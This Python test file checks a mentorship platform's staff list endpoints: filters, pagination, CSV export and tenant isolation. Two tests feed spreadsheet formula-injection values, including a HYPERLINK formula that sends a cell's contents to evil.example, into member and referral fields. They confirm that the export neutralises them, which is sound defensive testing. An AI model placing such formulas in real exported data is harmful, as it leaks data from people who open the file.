"""The staff lists (SPEC §5) and the filters staff ask for: match runs, referral requests, meetings; members by
school, readiness, cohort and unmatched; mentorships by health and school; pagination; CSV of whole lists,
spreadsheet-safe."""
import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import time_machine

from tests.factories import mentee_payload, mentor_payload, wait_local_jobs
from tests.pairs import make_pair, token_client, varied_message

T0 = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)


@pytest.fixture
def clock():
    with time_machine.travel(T0, tick=False) as machine:
        yield machine


def _ok(r, status=200):
    assert r.status_code == status, r.json
    return r.json


def _ids(page):
    return [item["id"] for item in page["items"]]


def _csv(r):
    assert r.status_code == 200 and r.mimetype == "text/csv", r.get_data(as_text=True)[:300]
    return list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))


def test_match_runs_newest_first_paginated_admin_only(app, admin, clock):
    pair = make_pair(app, admin)
    runs = [_ok(admin.post("/api/v1/match-runs", json={"strategy": "optimal", "min_score": 0.0}), 202)["id"]
            for _ in range(3)]
    wait_local_jobs(app)
    page = _ok(admin.get("/api/v1/match-runs?per_page=2"))
    assert _ids(page) == runs[::-1][:2] and page["total"] == 3 and page["page"] == 1 and page["per_page"] == 2
    assert _ids(_ok(admin.get("/api/v1/match-runs?per_page=2&page=2"))) == [runs[0]]
    assert page["items"][0]["status"] == "succeeded" and "assignments" in page["items"][0]
    assert _ok(admin.get("/api/v1/match-runs?status=failed"))["total"] == 0
    assert pair.mentee_client.get("/api/v1/match-runs").status_code == 403
    assert admin.get("/api/v1/match-runs?per_page=1000").status_code == 422


def test_referral_requests_by_status_and_mentorship(app, admin, clock):
    first, second = make_pair(app, admin), make_pair(app, admin)
    ms = [first.mentorship(), second.mentorship(varied_message(second.mentor, 1))]
    _ok(admin.patch("/api/v1/tenant/policy", json={"referral_requires": [], "min_weeks": 0, "min_meetings": 0}))
    body = {"company": "=HYPERLINK(\"http://evil.example\",\"x\")", "job_title": "Risk Analyst"}
    made = [_ok(p.mentee_client.post(f"/api/v1/mentorships/{m}/referral-requests", json=body), 201)["id"]
            for p, m in zip((first, second), ms, strict=True)]
    _ok(second.mentor_client.post(f"/api/v1/referral-requests/{made[1]}/decide", json={"decision": "approve"}))
    assert _ids(_ok(admin.get("/api/v1/referral-requests"))) == made[::-1]
    assert _ids(_ok(admin.get("/api/v1/referral-requests?status=approved"))) == [made[1]]
    assert _ids(_ok(admin.get(f"/api/v1/referral-requests?mentorship_id={ms[0]}"))) == [made[0]]
    # a member token: only its own
    assert _ids(_ok(first.mentee_client.get("/api/v1/referral-requests"))) == [made[0]]
    assert _ids(_ok(second.mentor_client.get(f"/api/v1/referral-requests?mentorship_id={ms[0]}"))) == []
    rows = _csv(admin.get("/api/v1/referral-requests?per_page=1", headers={"Accept": "text/csv"}))
    assert [int(r["id"]) for r in rows] == made[::-1]  # every row, not one page
    assert rows[0]["company"] == "'" + body["company"]  # a formula is shown as text


def test_meetings_by_status_member_and_time(app, admin, clock):
    first, second = make_pair(app, admin), make_pair(app, admin)
    ms = [first.mentorship(), second.mentorship(varied_message(second.mentor, 1))]
    starts = [T0 + timedelta(days=1), T0 + timedelta(days=3)]
    made = [_ok(p.mentee_client.post(f"/api/v1/mentorships/{m}/meetings", json={"start": s.isoformat()}), 201)["id"]
            for p, m, s in zip((first, second), ms, starts, strict=True)]
    proposed = _ok(first.mentee_client.post(f"/api/v1/mentorships/{ms[0]}/meetings", json={}), 201)["id"]
    assert _ok(admin.get("/api/v1/meetings"))["total"] == 3
    assert _ids(_ok(admin.get("/api/v1/meetings?status=scheduled"))) == made[::-1]  # latest start first
    assert _ids(_ok(admin.get("/api/v1/meetings?status=proposed"))) == [proposed]
    assert set(_ids(_ok(admin.get(f"/api/v1/meetings?member_id={first.mentor['id']}")))) == {made[0], proposed}
    assert _ids(_ok(admin.get("/api/v1/meetings?from=2026-06-02&to=2026-06-02"))) == [made[0]]  # the whole day
    assert _ids(_ok(admin.get("/api/v1/meetings?from=2026-06-03"))) == [made[1]]
    assert _ids(_ok(admin.get("/api/v1/meetings?to=2026-06-02T12:00:00Z"))) == []  # a time: exclusive
    r = admin.get("/api/v1/meetings?from=2026-06-03&to=2026-06-02")
    assert r.status_code == 422 and r.json["code"] == "validation_error"
    # a member token: its own; another member's id is 403
    assert set(_ids(_ok(second.mentee_client.get("/api/v1/meetings")))) == {made[1]}
    assert second.mentee_client.get(f"/api/v1/meetings?member_id={first.mentee['id']}").status_code == 403


def test_member_filters_school_ready_cohort_unmatched(app, admin, clock):
    pair = make_pair(app, admin, mentee={"school": "NYU", "graduation_year": 2027})
    pair.intro()  # the pair's mentee is in contact now (a pending intro)
    free = _ok(admin.post("/api/v1/members", json=mentee_payload(school="NYU")), 201)
    unready = _ok(admin.post("/api/v1/members", json=mentee_payload(school="Columbia University", goals=[])), 201)
    assert unready["profile"]["ready"] is False
    assert set(_ids(_ok(admin.get("/api/v1/members?school=NYU")))) == {pair.mentee["id"], free["id"]}
    assert _ids(_ok(admin.get("/api/v1/members?cohort=2027"))) == [pair.mentee["id"]]
    assert _ids(_ok(admin.get("/api/v1/members?ready=false"))) == [unready["id"]]
    assert unready["id"] not in _ids(_ok(admin.get("/api/v1/members?ready=true&per_page=100")))
    assert set(_ids(_ok(admin.get("/api/v1/members?unmatched=true")))) == {free["id"], unready["id"]}
    assert _ids(_ok(admin.get("/api/v1/members?unmatched=false"))) == [pair.mentee["id"]]
    assert _ids(_ok(admin.get("/api/v1/members?unmatched=true&ready=true&school=NYU"))) == [free["id"]]
    for bad in ("cohort=20x", "ready=maybe", "unmatched=2", "school=", "shool=NYU"):
        r = admin.get(f"/api/v1/members?{bad}")
        assert r.status_code == 422 and r.json["code"] == "validation_error", bad


def test_members_csv_is_every_row_and_spreadsheet_safe(app, admin, clock):
    names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1 call me", "-2", "@SUM(A1)", "Plain Name"]
    made = [_ok(admin.post("/api/v1/members", json=mentee_payload(name=name)), 201)["id"] for name in names]
    rows = _csv(admin.get("/api/v1/members?per_page=2", headers={"Accept": "text/csv"}))
    assert [int(r["id"]) for r in rows] == made
    assert [r["name"] for r in rows] == ["'" + n for n in names[:4]] + ["Plain Name"]
    assert rows[0]["profile.score"].isdigit() and rows[0]["domains"] == "finance/credit-risk"
    assert rows[0]["profile.ready"] in ("true", "false")
    filtered = _csv(admin.get("/api/v1/members?q=plain", headers={"Accept": "text/csv"}))
    assert [r["name"] for r in filtered] == ["Plain Name"]


def test_mentorships_by_health_and_school(app, admin, clock):
    pairs = [make_pair(app, admin, mentee={"school": school}) for school in ("NYU", "Columbia University", "NYU")]
    ms = [p.mentorship(varied_message(p.mentor, n)) for n, p in enumerate(pairs)]
    # the third pair has a meeting ahead (on track whatever the idle days); 22 days later the others need a check-in
    third = pairs[2]
    _ok(third.mentee_client.post(f"/api/v1/mentorships/{ms[2]}/meetings",
                                 json={"start": (T0 + timedelta(days=23)).isoformat()}), 201)
    clock.move_to(T0 + timedelta(days=22))
    assert _ids(_ok(admin.get("/api/v1/mentorships?health=needs_check_in"))) == ms[1::-1]
    assert _ids(_ok(admin.get("/api/v1/mentorships?health=on_track"))) == [ms[2]]
    assert _ok(admin.get("/api/v1/mentorships?health=at_risk"))["total"] == 0
    page = _ok(admin.get("/api/v1/mentorships?health=needs_check_in&per_page=1&page=2"))
    assert _ids(page) == [ms[0]] and page["total"] == 2 and page["items"][0]["health"] == "needs_check_in"
    assert set(_ids(_ok(admin.get("/api/v1/mentorships?school=NYU")))) == {ms[0], ms[2]}
    assert _ids(_ok(admin.get("/api/v1/mentorships?school=NYU&health=needs_check_in"))) == [ms[0]]
    clock.move_to(T0 + timedelta(days=43))  # the third's meeting passed with no check-in: idle too
    assert _ids(_ok(admin.get("/api/v1/mentorships?health=at_risk"))) == ms[::-1]
    rows = _csv(admin.get("/api/v1/mentorships?health=at_risk&per_page=1", headers={"Accept": "text/csv"}))
    assert [(int(r["id"]), r["health"]) for r in rows] == [(m, "at_risk") for m in ms[::-1]]
    # a member token sees only its own, with the same filters
    mentee = token_client(app, admin, pairs[0].mentee["id"])
    assert _ids(_ok(mentee.get("/api/v1/mentorships?health=at_risk"))) == [ms[0]]
    r = admin.get("/api/v1/mentorships?health=fine")
    assert r.status_code == 422 and r.json["code"] == "validation_error"


def test_lists_of_one_tenant_never_show_another(app, admin, other_admin, clock):
    pair = make_pair(app, admin)
    pair.mentorship()
    _ok(admin.post("/api/v1/match-runs", json={"strategy": "optimal", "min_score": 0.0}), 202)
    wait_local_jobs(app)
    for path in ("/api/v1/match-runs", "/api/v1/referral-requests", "/api/v1/meetings",
                 "/api/v1/mentorships?health=on_track", "/api/v1/members?unmatched=false"):
        assert _ok(other_admin.get(path))["total"] == 0, path
    assert admin.get("/api/v1/members").json["total"] == 2
    assert other_admin.post("/api/v1/members", json=mentor_payload()).status_code == 201
